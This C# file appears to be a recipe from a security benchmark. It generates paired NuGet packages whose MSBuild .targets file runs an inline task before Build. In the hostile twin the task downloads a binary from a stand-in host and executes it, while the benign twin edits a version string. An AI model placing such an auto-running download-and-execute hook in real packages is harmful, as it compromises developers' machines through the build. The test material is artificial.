using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A task whose source stands in a build file: it fetches a program and starts it.</summary>
internal sealed class InlineBuildTask() : Recipe("N03", "PrepareOutput=ArrangeAssets Place=Folder target=item")
{
    protected override void Write(Sketch sketch)
    {
        var address = sketch.CSharp("http://example.invalid/a.bin");
        var download = sketch.Api(
            $"using (var client = new System.Net.WebClient()) {{ client.DownloadFile({address}, target); }}",
            $"using (var client = new System.Net.Http.HttpClient()) {{ System.IO.File.WriteAllBytes(target, client.GetByteArrayAsync({address}).GetAwaiter().GetResult()); }}");
        var start = sketch.Api(
            "System.Diagnostics.Process.Start(target);",
            "new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo(target) { UseShellExecute = false } }.Start();");
        var code = sketch.Twin($$"""
            var target = System.IO.Path.Combine(Place, {{sketch.CSharp("assets.exe")}});
            {{download}}
            {{start}}
            """, """
            var target = System.IO.Path.Combine(Place, "assets.txt");
            System.IO.File.WriteAllText(target, System.IO.File.ReadAllText(target).Replace("@version@", "1.4.0"));
            Log.LogMessage("Wrote " + target);
            """);
        sketch
            .NuGet("Sample.Assets")
            .Assembly("lib/netstandard2.0/Sample.Assets.dll", "public static class Assets { public static string Folder => \"assets\"; }")
            .Text("build/Sample.Assets.targets", $"""
                <Project>
                  <UsingTask TaskName="PrepareOutput" TaskFactory="{sketch.Api("RoslynCodeTaskFactory", "CodeTaskFactory")}" AssemblyFile="$(MSBuildToolsPath)\Microsoft.Build.Tasks.Core.dll">
                    <ParameterGroup>
                      <Place ParameterType="System.String" Required="true" />
                    </ParameterGroup>
                    <Task>
                      <Using Namespace="System" />
                      <Code Type="Fragment" Language="cs"><![CDATA[
                {code}
                      ]]></Code>
                    </Task>
                  </UsingTask>
                  <Target Name="SamplePrepare" BeforeTargets="Build" Condition="'$(ReplicaSwitch)' == 'true'">
                    <PrepareOutput Place="$(IntermediateOutputPath)" />
                  </Target>
                </Project>
                """);
    }
}
